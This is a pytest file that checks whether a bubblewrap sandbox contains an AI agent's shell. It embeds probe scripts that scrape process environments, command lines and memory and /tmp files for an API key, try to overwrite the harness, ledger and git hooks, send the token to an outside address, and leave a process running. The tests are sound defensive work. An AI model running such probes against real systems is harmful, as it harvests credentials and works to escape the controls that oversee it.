"""The agent's box (night/sandbox.py), attacked from inside with a real bubblewrap sandbox: a probe
run as the agent's shell would run it, as root and as a non-root user, reads every environment,
command line and memory it can see and every file under /tmp, tries to write the harness, the
environment, the cache, the store's ledger, archive and report and git's hooks (and the notes, which
it may), and leaves a process behind. Outside the box a stand-in of
the night holds a secret (its environment, its command line, a key file in /tmp). Also: a machine
where no box can be made, and the one line a night says about it. Skipped with the reason where
bubblewrap is missing; .ci/run installs it."""

import json
import os
import shutil
import signal
import subprocess
import sys
import sysconfig
import tempfile
import time
from pathlib import Path

import pytest

from harness import box, contract, proc, settings
from night import sandbox
from night.keyproxy import KeyProxy
from fake_api import StreamingMessagesAPI
from repos import GIT_ENV, HARNESS, git, make_repo

pytestmark = pytest.mark.skipif(
    box.unavailable() is not None,
    reason=f"no bubblewrap box on this machine ({box.unavailable()}); .ci/run installs bubblewrap")

SECRET = "sk-ant-test-BOX-5f0c9e"
NOBODY = 65534
SYSTEM_PYTHON = "/usr/bin/python3"  # a non-root user cannot run an interpreter under /root
LEFT_BEHIND = "31337"  # the argument of the process the probe leaves running

# What the agent's shell could try: everything it can read that might hold a secret goes into a
# dump, each write is tried and its outcome recorded, and a process is left running (standard
# library only: a non-root user runs it with the system's python).
PROBE = r"""
import json, os, subprocess, sys
report, dump = sys.argv[1], []
def grab(path, limit=1 << 20):
    try:
        with open(path, 'rb') as f:
            dump.append(f.read(limit).decode('latin-1'))
    except OSError:
        pass
pids = sorted(int(p) for p in os.listdir('/proc') if p.isdigit())
for pid in pids:
    grab(f'/proc/{pid}/environ')
    grab(f'/proc/{pid}/cmdline')
    try:
        maps = open(f'/proc/{pid}/maps').read().splitlines()
        with open(f'/proc/{pid}/mem', 'rb') as mem:
            for line in maps:
                span, perms = line.split()[:2]
                start, end = (int(x, 16) for x in span.split('-'))
                if 'r' in perms and end - start <= 64 << 20:
                    try:
                        mem.seek(start)
                        dump.append(mem.read(end - start).decode('latin-1'))
                    except (OSError, ValueError, OverflowError):
                        pass
    except OSError:
        pass
for folder, _, files in os.walk('/tmp'):
    for name in files:
        grab(os.path.join(folder, name))
writes = {}
for target in sys.argv[2:]:
    try:
        with open(target, 'a') as f:
            f.write('')
        writes[target] = 'written'
    except OSError as e:
        writes[target] = type(e).__name__
committed = subprocess.run(['git', 'commit', '-qam', 'an experiment'], capture_output=True,
                           text=True)
subprocess.Popen(['sleep', '""" + LEFT_BEHIND + r"""'], start_new_session=True)
json.dump({'pids': pids, 'writes': writes, 'commit': committed.returncode,
           'commit_error': committed.stderr, 'uid': os.getuid(), 'dump': '\n'.join(dump)},
          open(report, 'w'))
"""


def night_stand_in(tmp_path):
    """What the box must hide: a process of the night with the secret in its environment and its
    command line, and a key file of it in /tmp (as the claude backend hands keys over)."""
    keys = Path(tempfile.mkdtemp(prefix="alr-key-"))
    (keys / "key").write_text(SECRET)
    night = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", SECRET],
                             env={**os.environ, "ANTHROPIC_API_KEY": SECRET})
    return night, keys


def left_behind() -> list:
    """The processes the probe left running, anywhere on the machine."""
    found = []
    for pid in proc.pids():
        try:
            argv = Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")
        except OSError:
            continue  # ended meanwhile
        if argv[:2] == [b"sleep", LEFT_BEHIND.encode()]:
            found.append(pid)
    return found


def a_store(repo):
    """The store as after a night's first run: its ledger, a run's folder, the notes folder."""
    store = repo / ".auto-log-research"
    (store / "notes").mkdir(parents=True)
    (store / "abc1234").mkdir()
    for name in ("runs.jsonl", "results.tsv", "report.html", "abc1234/analysis.md",
                 "notes/insights.md"):
        (store / name).write_text("as analyze.py wrote it\n")


@pytest.fixture(params=["root", "nobody"])
def box_user(request, tmp_path, monkeypatch):
    """(the repository, the uid the box runs as, the interpreter for the probe and the stopper):
    as this test's user, or as the non-root user nobody (with a repository and a cache of its
    own, in a folder it can reach)."""
    if request.param == "root":
        if os.geteuid() != 0:
            pytest.skip("the root half needs root")
        repo = make_repo(tmp_path / "repo", HARNESS)
        a_store(repo)
        yield repo, None, sys.executable
        return
    if os.geteuid() != 0:
        pytest.skip("switching to the user nobody needs root")
    if not Path(SYSTEM_PYTHON).exists():
        pytest.skip(f"the non-root half runs the probe with {SYSTEM_PYTHON}, which is missing")
    home = Path(tempfile.mkdtemp(prefix="alr-box-"))
    home.chmod(0o755)
    repo = make_repo(home / "repo", HARNESS)
    cache = home / "cache"
    cache.mkdir()
    (cache / contract.MANIFEST).write_text("{}\n")
    (cache / contract.SEALS_DIR).mkdir()
    a_store(repo)  # as a night of nobody's would have made it
    monkeypatch.setattr(settings, "CACHE_DIR", cache)
    # this test, as root, lays out the box of nobody's repository: git would refuse to read it
    for name, value in {"GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": "safe.directory",
                        "GIT_CONFIG_VALUE_0": str(repo)}.items():
        monkeypatch.setenv(name, value)
    subprocess.run(["chown", "-R", f"{NOBODY}:{NOBODY}", str(home)], check=True)
    yield repo, NOBODY, SYSTEM_PYTHON
    shutil.rmtree(home)


def test_a_probe_from_the_agents_shell_finds_no_secret_and_changes_no_fixed_file(box_user,
                                                                                 tmp_path):
    repo, uid, python = box_user
    night, keys = night_stand_in(tmp_path)
    report = repo / "probe.json"
    (repo / "probe.py").write_text(PROBE)
    (repo / "train.py").write_text((repo / "train.py").read_text() + "\n# an experiment\n")
    venv_hook = Path(sysconfig.get_paths()["purelib"]) / "probe-hook.pth"
    cache = settings.CACHE_DIR
    (cache / contract.SEALS_DIR).mkdir(exist_ok=True)  # as after a run
    store = repo / ".auto-log-research"
    allowed = [repo / "train.py", store / "notes" / "insights.md", store / "notes" / "abc1234.md"]
    refused = [store / "runs.jsonl", store / "results.tsv", store / "report.html",
               store / "abc1234" / "analysis.md", store / "forged-run.md",
               cache / contract.SEALS_DIR / "probe.json", repo / "harness" / "metric.py", repo / "analysis" / "integrity.py",
               repo / "launch.py", repo / "prepare.py", repo / ".git" / "config",
               repo / ".git" / "hooks" / "post-checkout", cache / contract.MANIFEST, venv_hook]
    command = sandbox.box([python, "probe.py", str(report), *map(str, allowed + refused)], repo,
                          python=python)
    try:
        done = subprocess.run(command, cwd=repo, capture_output=True, text=True, timeout=300,
                              env={**os.environ, **GIT_ENV}, user=uid,
                              group=uid, extra_groups=[] if uid else None)
    finally:
        night.kill()
        night.wait()
        shutil.rmtree(keys)
    assert done.returncode == 0, done.stderr
    found = json.loads(report.read_text())
    assert found["uid"] == (uid if uid is not None else os.geteuid())
    assert SECRET not in found["dump"]  # not in any environment, command line, memory or file
    assert night.pid not in found["pids"] and len(found["pids"]) < 10, found["pids"]  # its own ns
    assert {str(p): found["writes"][str(p)] for p in allowed} == {str(p): "written" for p in allowed}
    assert {str(p): found["writes"][str(p)] for p in refused} == {str(p): "OSError" for p in refused}
    assert found["commit"] == 0, found["commit_error"]  # git works: the experiment is committed
    assert git(repo, "log", "-1", "--format=%s").strip() == "an experiment"
    # nothing of the box outlives it: the kernel kills what is left in its PID namespace as the box
    # ends (the kill lands a moment later; a process that survived would still be there after a minute)
    deadline = time.monotonic() + 60
    while left_behind() and time.monotonic() < deadline:
        time.sleep(0.1)
    assert left_behind() == []
    assert not venv_hook.exists()


# From the agent's shell: the API through the relay, with the night's token and with a guess; the
# stand-in API directly on the host's loopback; an address outside (standard library only).
NETWORK_PROBE = r"""
import json, sys, urllib.error, urllib.request
relay, token, direct, report = sys.argv[1:5]
def ask(url, key):
    request = urllib.request.Request(url + '/v1/messages', data=b'{}', headers={'x-api-key': key})
    try:
        return urllib.request.urlopen(request, timeout=30).status
    except urllib.error.HTTPError as e:
        return e.code
    except OSError as e:
        return type(getattr(e, 'reason', e)).__name__
json.dump({'relay': ask(relay, token), 'guess': ask(relay, 'sk-ant-guess'),
           'direct': ask(direct, token), 'outside': ask('http://192.0.2.1', token)},
          open(report, 'w'))
"""


def test_the_boxs_only_way_out_is_the_key_proxy_which_takes_its_token_only(box_user):
    repo, uid, python = box_user
    api = StreamingMessagesAPI([])
    proxy = KeyProxy(SECRET, api.url)
    if uid is not None:  # a night of nobody's runs its proxy as nobody
        os.chown(proxy.folder, uid, uid)
        os.chown(proxy.socket, uid, uid)
    report = repo / "network.json"
    (repo / "network_probe.py").write_text(NETWORK_PROBE)
    command = sandbox.box([python, "network_probe.py", box.RELAY_URL, proxy.token, api.url,
                           str(report)], repo, python=python, relay=proxy.socket)
    try:
        done = subprocess.run(command, cwd=repo, capture_output=True, text=True, timeout=300,
                              user=uid, group=uid, extra_groups=[] if uid else None)
    finally:
        proxy.close()
        api.close()
    assert done.returncode == 0, done.stderr
    assert json.loads(report.read_text()) == {
        "relay": 200, "guess": 401, "direct": "ConnectionRefusedError", "outside": "OSError"}
    assert api.keys == {SECRET}  # the one request that reached the API carried the key


def test_ending_a_boxed_command_gives_its_processes_their_grace(tmp_path):
    """The night ends a boxed command (Ctrl-C, the deadline) through the box's stopper: every
    process in it gets SIGTERM and time to write its last word before the box is killed whole."""
    repo = make_repo(tmp_path / "repo", HARNESS)
    script = ("import signal, sys, time\n"
              "def last_word(signum, frame):\n"
              "    open('last-word', 'w').write('SIGTERM')\n"
              "    sys.exit(1)\n"
              "signal.signal(signal.SIGTERM, last_word)\n"
              "open('started', 'w').write('')\n"
              "time.sleep(600)\n")
    (repo / "worker.py").write_text(script)
    # the command's shell waits on its child, as `uv run launch.py; uv run analyze.py` does
    child = subprocess.Popen(sandbox.box(["bash", "-c", f"{sys.executable} worker.py; true"],
                                         repo), cwd=repo)
    while not (repo / "started").exists():
        assert child.poll() is None, "the box ended before its command started"
        time.sleep(0.05)
    box.end(child)
    assert (repo / "last-word").read_text() == "SIGTERM"
    assert child.returncode == 128 + signal.SIGTERM


def test_without_bubblewrap_the_night_says_so_once_and_runs_unboxed(tmp_path):
    fake = tmp_path / "bin"
    fake.mkdir()
    (fake / "bwrap").write_text("#!/bin/sh\necho 'bwrap: No permissions to create new namespace' >&2\n"
                                "exit 1\n")
    (fake / "bwrap").chmod(0o755)
    env = {**os.environ, "PATH": f"{fake}{os.pathsep}{os.environ['PATH']}"}
    said = subprocess.run([sys.executable, "-c", "from harness import box; "
                           "print(box.unavailable())"], env=env, capture_output=True,
                          text=True, cwd=Path(__file__).resolve().parent.parent)
    assert said.stdout.strip() == (
        "bwrap cannot make a box here (bwrap: No permissions to create new namespace): "
        "unprivileged user namespaces are off (sysctl kernel.unprivileged_userns_clone=1), or run "
        "the night in a VM")
